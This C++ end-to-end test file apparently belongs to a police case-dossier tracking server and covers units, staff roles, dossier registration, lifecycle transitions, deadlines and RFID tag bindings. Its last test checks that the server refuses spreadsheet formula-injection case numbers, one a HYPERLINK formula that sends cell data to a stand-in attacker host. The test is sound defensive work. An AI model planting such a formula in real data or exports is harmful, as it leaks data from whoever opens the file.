// SPDX-FileCopyrightText: 2026 The Casetrail authors
// SPDX-License-Identifier: MulanPSL-2.0

// Black-box, through the server process and a real PostgreSQL: the unit tree and staff, registering
// dossiers, every lifecycle transition, deadlines, tag bindings.

#include <map>
#include <set>

#include <catch2/catch.hpp>

#include "tests/support/server_process.hpp"

using namespace casetrail::test;
using nlohmann::json;

namespace {

const std::string kApi = "/api/v1";

json new_dossier(const std::string& case_number) {
    return {{"case_number", case_number}, {"title", "诈骗案 Fraud " + case_number},
            {"unit", "CID-T1"},           {"handler", "wang.li"},
            {"home", "HQ-R1-C1-S2"},      {"by", "liu.yang"}};
}

std::string error_message(const JsonReply& r) { return r.body["error"]["message"].get<std::string>(); }

}  // namespace

TEST_CASE("units form a bureau > station > team tree, and other shapes are refused", "[dossier][e2e]") {
    ServerProcess s;
    auto r = s.post(kApi + "/units", {{"code", "CID-T2"}, {"name", "Team 2"}, {"kind", "team"}, {"parent", "CID-S1"}});
    REQUIRE(r.status == 201);
    r = s.post(kApi + "/units", {{"code", "EB"}, {"name", "Economic Crimes Bureau"}, {"kind", "bureau"}});
    CHECK(r.status == 201);
    const auto units = s.get(kApi + "/units").body["units"];
    std::vector<std::string> codes;
    for (const auto& u : units) codes.push_back(u["code"]);
    CHECK(codes == std::vector<std::string>{"CID", "CID-S1", "CID-T1", "CID-T2", "EB"});  // parents first

    r = s.post(kApi + "/units",
               {{"code", "CID-S9"}, {"name", "Station under a team"}, {"kind", "station"}, {"parent", "CID-T1"}});
    CHECK(r.status == 400);
    CHECK_THAT(error_message(r), Catch::Contains("a station cannot sit under a team"));
    r = s.post(kApi + "/units", {{"code", "CID-T3"}, {"name", "Orphan"}, {"kind", "team"}});
    CHECK(r.status == 400);
    CHECK(error_message(r) == "parent: a team needs a parent unit");
    r = s.post(kApi + "/units", {{"code", "CID-T2"}, {"name", "Again"}, {"kind", "team"}, {"parent", "CID-S1"}});
    CHECK(r.status == 409);
    r = s.post(kApi + "/units", {{"code", "X1"}, {"name", "x"}, {"kind", "team"}, {"parent", "NOPE"}});
    CHECK(r.status == 400);
    CHECK(r.body["error"]["code"] == "unknown_reference");
    r = s.post(kApi + "/units", {{"code", "bad code"}, {"name", "x"}, {"kind", "bureau"}});
    CHECK(r.status == 400);
    CHECK_THAT(error_message(r), Catch::StartsWith("code: \"bad code\""));
    // The schema holds the shape too, whatever the API does.
    CHECK_THROWS(s.db.exec("INSERT INTO units (code, name, kind) VALUES ('LOOSE', 'Loose team', 'team')"));
}

TEST_CASE("staff have a unit and roles, given as data and checked", "[dossier][e2e]") {
    ServerProcess s;
    auto r = s.post(
        kApi + "/staff",
        {{"login", "sun.hui"}, {"name", "孙慧"}, {"unit", "CID-T1"}, {"roles", {"case_handler", "legal_officer"}}});
    REQUIRE(r.status == 201);
    CHECK(r.body["roles"] == json({"case_handler", "legal_officer"}));
    r = s.put(kApi + "/staff/sun.hui/roles", {{"roles", {"supervisor"}}});
    CHECK(r.status == 200);
    CHECK(r.body["roles"] == json({"supervisor"}));
    const auto team = s.get(kApi + "/staff?unit=CID-T1").body["staff"];
    std::set<std::string> logins;
    for (const auto& m : team) logins.insert(m["login"]);
    CHECK(logins == std::set<std::string>{"chen.jing", "sun.hui", "wang.li"});

    CHECK(s.post(kApi + "/staff", {{"login", "sun.hui"}, {"name", "x"}, {"unit", "CID-T1"}}).status == 409);
    r = s.post(kApi + "/staff", {{"login", "li.na"}, {"name", "x"}, {"unit", "CID-T1"}, {"roles", {"janitor"}}});
    CHECK(r.status == 400);
    CHECK_THAT(error_message(r), Catch::StartsWith("roles: \"janitor\" is not one of clerk, case_handler"));
    CHECK(s.post(kApi + "/staff", {{"login", "Li.Na"}, {"name", "x"}, {"unit", "CID-T1"}}).status == 400);
    CHECK(s.get(kApi + "/staff?unit=NOPE").status == 400);
}

TEST_CASE("a dossier is registered with volumes and deadlines, and bad input is named", "[dossier][e2e]") {
    ServerProcess s;
    auto body = new_dossier("2026-XS-0001");
    body["case_type"] = "fraud";
    body["volumes"] = 2;
    body["deadlines"] = {{{"kind", "handling"}, {"due", "2027-01-31T16:00:00Z"}},
                         {{"kind", "review"}, {"due", "2027-03-01T09:00:00+08:00"}, {"note", "法制审核"}}};
    auto r = s.post(kApi + "/dossiers", body);
    REQUIRE(r.status == 201);
    CHECK(r.body["dossier"]["status"] == "registered");
    CHECK(r.body["dossier"]["case_type"] == "fraud");
    CHECK(r.body["dossier"]["owning_unit"]["code"] == "CID-T1");
    CHECK(r.body["dossier"]["case_handler"]["login"] == "wang.li");
    CHECK(r.body["dossier"]["home"]["code"] == "HQ-R1-C1-S2");
    REQUIRE(r.body["deadlines"].size() == 2);
    CHECK(r.body["deadlines"][1]["due_at"] == "2027-03-01T01:00:00.000000Z");
    CHECK(r.body["whereabouts"]["volumes"].size() == 2);
    CHECK(r.body["custody"]["state"] == "in_archive");
    CHECK(s.db.query_value("SELECT r.login FROM dossiers d JOIN staff r ON r.id = d.registered_by "
                           "WHERE case_number = '2026-XS-0001'") == "liu.yang");
    CHECK(s.get(kApi + "/dossiers/2026-XS-0001").body["dossier"]["title"] == "诈骗案 Fraud 2026-XS-0001");

    CHECK(s.post(kApi + "/dossiers", new_dossier("2026-XS-0001")).status == 409);
    const std::map<std::string, std::pair<json, std::string>> bad = {
        {"title", {"  ", "title: is empty"}},
        {"unit", {"NOPE", "no unit has the code \"NOPE\""}},
        {"handler", {"nobody", "no active staff member has the login \"nobody\""}},
        {"home", {"NO-SHELF", "no location has the code \"NO-SHELF\""}},
        {"volumes", {0, "volumes: 0 is out of range 1..100"}},
        {"case_type",
         {"Fraud!",
          "case_type: \"Fraud!\" must be 1..32 lower-case letters, digits, '_' or '-', starting with a letter"}},
        {"deadlines",
         {json::array({{{"kind", "handling"}, {"due", "next week"}}}),
          "deadlines[0].due: \"next week\" is not an RFC 3339 time (2026-12-01T09:30:00Z, or with an offset)"}},
        {"colour", {"red", "colour: is not a known field"}}};
    for (const auto& [field, value_and_message] : bad) {
        auto b = new_dossier("2026-XS-0099");
        b[field] = value_and_message.first;
        r = s.post(kApi + "/dossiers", b);
        INFO(field);
        CHECK(r.status == 400);
        CHECK(error_message(r) == value_and_message.second);
    }
    // Nobody acts in another's name: a "by" that is not the token's holder is refused.
    auto b = new_dossier("2026-XS-0099");
    b["by"] = "ghost";
    r = s.post(kApi + "/dossiers", b);
    CHECK(r.status == 403);
    CHECK(error_message(r) == "\"by\" names ghost, but the token is sun.hao's");
    b = new_dossier("2026-XS-0099");
    b.erase("title");
    CHECK(error_message(s.post(kApi + "/dossiers", b)) == "title: is required");
    CHECK(s.db.query_value("SELECT count(*) FROM dossiers WHERE case_number = '2026-XS-0099'") == "0");
    CHECK(s.get(kApi + "/dossiers/2099-NO-0001").status == 404);
}

TEST_CASE("every legal lifecycle transition is taken and recorded, every illegal one is refused with 409",
          "[dossier][e2e]") {
    ServerProcess s;
    const std::vector<std::string> statuses = {"registered", "in_handling", "in_legal_review", "archived", "closed"};
    const std::set<std::pair<std::string, std::string>> legal = {{"registered", "in_handling"},
                                                                 {"in_handling", "in_legal_review"},
                                                                 {"in_legal_review", "in_handling"},
                                                                 {"in_legal_review", "archived"},
                                                                 {"archived", "closed"}};
    // The shortest legal path from registration to each status.
    const std::map<std::string, std::vector<std::string>> path = {
        {"registered", {}},
        {"in_handling", {"in_handling"}},
        {"in_legal_review", {"in_handling", "in_legal_review"}},
        {"archived", {"in_handling", "in_legal_review", "archived"}},
        {"closed", {"in_handling", "in_legal_review", "archived", "closed"}}};
    int n = 0;
    for (const auto& from : statuses) {
        for (const auto& to : statuses) {
            const auto cn = "2026-LC-" + std::to_string(100 + n++);
            REQUIRE(s.post(kApi + "/dossiers", new_dossier(cn)).status == 201);
            for (const auto& step : path.at(from)) {
                REQUIRE(s.post(kApi + "/dossiers/" + cn + "/transitions", {{"to", step}, {"by", "zhao.min"}}).status ==
                        200);
            }
            const auto r =
                s.post(kApi + "/dossiers/" + cn + "/transitions", {{"to", to}, {"by", "wang.li"}, {"note", "step"}});
            INFO(from << " -> " << to << ": " << r.body.dump());
            if (legal.count({from, to})) {
                CHECK(r.status == 200);
                CHECK(r.body["from"] == from);
                CHECK(r.body["by"] == "wang.li");
                CHECK(s.get(kApi + "/dossiers/" + cn).body["dossier"]["status"] == to);
            } else {
                CHECK(r.status == 409);
                CHECK(r.body["error"]["code"] == "conflict");
                CHECK_THAT(error_message(r), Catch::StartsWith("a dossier " + from + " cannot go to " + to));
                CHECK(s.get(kApi + "/dossiers/" + cn).body["dossier"]["status"] == from);
            }
        }
    }
    // The trail: every transition with who and when, in order.
    const auto t = s.get(kApi + "/dossiers/2026-LC-124/transitions").body["transitions"];  // closed -> closed
    REQUIRE(t.size() == 4);
    CHECK(t[0]["from"] == "registered");
    CHECK(t[3]["to"] == "closed");
    CHECK(t[0]["by"] == "zhao.min");
    CHECK(t[0]["at"].is_string());
    CHECK(s.post(kApi + "/dossiers/2026-LC-100/transitions", {{"to", "lost"}, {"by", "wang.li"}}).status == 400);
    // The database refuses a step outside the lifecycle even when the API is bypassed.
    CHECK_THROWS(
        s.db.exec("INSERT INTO dossier_transitions (dossier_id, from_status, to_status, actor_id) "
                  "SELECT d.id, 'registered', 'closed', s.id FROM dossiers d, staff s LIMIT 1"));
}

TEST_CASE("deadlines are added and met once", "[dossier][e2e]") {
    ServerProcess s;
    REQUIRE(s.post(kApi + "/dossiers", new_dossier("2026-DL-0001")).status == 201);
    auto r = s.post(kApi + "/dossiers/2026-DL-0001/deadlines",
                    {{"kind", "return"}, {"due", "2027-02-01T00:00:00Z"}, {"by", "wang.li"}});
    REQUIRE(r.status == 201);
    const auto id = r.body["id"].get<long long>();
    CHECK(s.post(kApi + "/dossiers/2026-DL-0001/deadlines",
                 {{"kind", "return"}, {"due", "2027-02-01T00:00:00Z"}, {"by", "wang.li"}})
              .status == 409);
    r = s.post(kApi + "/dossiers/2026-DL-0001/deadlines/" + std::to_string(id) + "/met", {{"by", "wang.li"}});
    CHECK(r.status == 200);
    CHECK(r.body["met_by"] == "wang.li");
    CHECK(
        s.post(kApi + "/dossiers/2026-DL-0001/deadlines/" + std::to_string(id) + "/met", {{"by", "wang.li"}}).status ==
        409);
    CHECK(s.post(kApi + "/dossiers/2026-DL-0001/deadlines/999999/met", {{"by", "wang.li"}}).status == 400);
    CHECK(s.post(kApi + "/dossiers/2026-DL-0001/deadlines/abc/met", {{"by", "wang.li"}}).status == 400);
}

TEST_CASE("tags are bound, re-tagged and unbound with history, and an EPC is on one volume at a time",
          "[dossier][e2e]") {
    ServerProcess s;
    auto body = new_dossier("2026-TG-0001");
    body["volumes"] = 2;
    REQUIRE(s.post(kApi + "/dossiers", body).status == 201);
    const std::string base = kApi + "/dossiers/2026-TG-0001/volumes/";
    auto r = s.post(base + "1/tag", {{"epc", "e2801160000000000000a001"}, {"by", "liu.yang"}});
    REQUIRE(r.status == 200);
    CHECK(r.body["epc"] == "E2801160000000000000A001");  // canonical form
    // The same EPC on volume 2, or a tag another dossier carries: refused, naming where it is.
    r = s.post(base + "2/tag", {{"epc", "E2801160000000000000A001"}, {"by", "liu.yang"}});
    CHECK(r.status == 409);
    CHECK(error_message(r) == "tag E2801160000000000000A001 is bound to 2026-TG-0001 volume 1; unbind it there first");
    r = s.post(base + "2/tag", {{"epc", "E28011600000000000000007"}, {"by", "liu.yang"}});
    CHECK(r.status == 409);
    CHECK_THAT(error_message(r), Catch::Contains("2026-CR-0007"));
    CHECK(s.post(base + "1/tag", {{"epc", "XYZ"}, {"by", "liu.yang"}}).status == 400);
    // Binding the same tag again changes nothing; re-tagging closes the old binding.
    CHECK(s.post(base + "1/tag", {{"epc", "E2801160000000000000A001"}, {"by", "liu.yang"}}).status == 200);
    CHECK(s.post(base + "1/tag", {{"epc", "E2801160000000000000A002"}, {"by", "liu.yang"}}).status == 200);
    CHECK(s.post(base + "2/tag", {{"epc", "E2801160000000000000A001"}, {"by", "chen.jing"}}).status ==
          200);  // free again
    r = s.post(base + "2/untag", {{"by", "chen.jing"}});
    CHECK(r.status == 200);
    CHECK(r.body["unbound_by"] == "chen.jing");
    CHECK(s.post(base + "2/untag", {{"by", "chen.jing"}}).status == 409);
    CHECK(s.post(base + "7/tag", {{"epc", "E2801160000000000000A003"}, {"by", "liu.yang"}}).status == 400);
    const auto history = s.get(kApi + "/dossiers/2026-TG-0001/tags").body["bindings"];
    REQUIRE(history.size() == 3);
    CHECK(history[0]["epc"] == "E2801160000000000000A001");
    CHECK(history[0]["to"].is_string());
    CHECK(history[1]["epc"] == "E2801160000000000000A002");
    CHECK(history[1]["to"].is_null());
    CHECK(history[2]["volume"] == 2);
    CHECK(history[2]["unbound_by"] == "chen.jing");
    // Found by its new tag.
    CHECK(s.get(kApi + "/dossiers/E2801160000000000000A002").body["dossier"]["case_number"] == "2026-TG-0001");
    // Volumes: a third one, numbered on.
    r = s.post(kApi + "/dossiers/2026-TG-0001/volumes", {{"by", "liu.yang"}});
    CHECK(r.status == 201);
    CHECK(r.body["volume"] == 3);
    // The database keeps an EPC on one volume at a time even if the API is bypassed.
    CHECK_THROWS(
        s.db.exec("INSERT INTO tag_bindings (epc, volume_id) SELECT 'E2801160000000000000A002', id FROM volumes "
                  "WHERE volume_no = 3 AND dossier_id = (SELECT id FROM dossiers WHERE case_number = '2026-TG-0001')"));
}

TEST_CASE("a case number is refused when a spreadsheet would run it, or when it would shadow a tag",
          "[dossier][e2e][security]") {
    ServerProcess s;
    // The attacks: a case number that is a formula in every export, and one that is another dossier's
    // EPC, so that looking that tag up would answer with the new dossier (a case number wins).
    const std::map<std::string, std::string> refused = {
        {"=HYPERLINK(\"http://e.vil/?\"&A1,\"open\")",
         "case_number: \"=HYPERLINK(\"http://e.vil/?\"&A1,\"open\")\" must begin with a letter, a digit or an "
         "opening bracket (a spreadsheet would run it as a formula)"},
        {"@SUM(A1)",
         "case_number: \"@SUM(A1)\" must begin with a letter, a digit or an opening bracket (a "
         "spreadsheet would run it as a formula)"},
        {"2026+1",
         "case_number: \"2026+1\" has a character a case number may not have at position 5 (letters, "
         "digits, spaces and - _ / . ( ) [ ] （ ） 〔 〕 only)"},
        {"E28011600000000000000007",
         "case_number: \"E28011600000000000000007\" reads as an EPC (hex digits in groups of four): it would hide "
         "that tag's dossier"},
        {"e28011600000000000000007",
         "case_number: \"e28011600000000000000007\" reads as an EPC (hex digits in groups of four): it would hide "
         "that tag's dossier"}};
    for (const auto& [case_number, message] : refused) {
        INFO(case_number);
        const auto r = s.post(kApi + "/dossiers", new_dossier(case_number));
        CHECK(r.status == 400);
        CHECK(error_message(r) == message);
    }
    CHECK(s.db.query_value("SELECT count(*) FROM dossiers WHERE case_number !~ '^2026-CR-'") == "0");
    // The tag still finds its own dossier, and says that it matched as a tag.
    auto r = s.get(kApi + "/dossiers/E28011600000000000000007/location");
    CHECK(r.body["dossier"]["case_number"] == "2026-CR-0007");
    CHECK(r.body["matched_by"] == "epc");
    // Case numbers as Chinese offices write them are fine.
    for (const std::string ok : {"京公刑字[2026]第12号", "（2026）京0105刑初123号", "京公（刑）字〔2026〕12号"}) {
        INFO(ok);
        CHECK(s.post(kApi + "/dossiers", new_dossier(ok)).status == 201);
    }
    // A dossier registered before the alphabet stays readable and changeable (there is no CHECK on old rows).
    s.db.exec(
        "INSERT INTO dossiers (case_number, title, owning_unit_id) SELECT 'ABCD', 'legacy', id FROM units "
        "WHERE code = 'CID-T1'");
    r = s.get(kApi + "/dossiers/ABCD");
    REQUIRE(r.status == 200);
    CHECK(r.body["dossier"]["title"] == "legacy");
    CHECK(s.post(kApi + "/dossiers/ABCD/transitions", {{"to", "in_handling"}, {"by", "liu.yang"}}).status == 200);
}
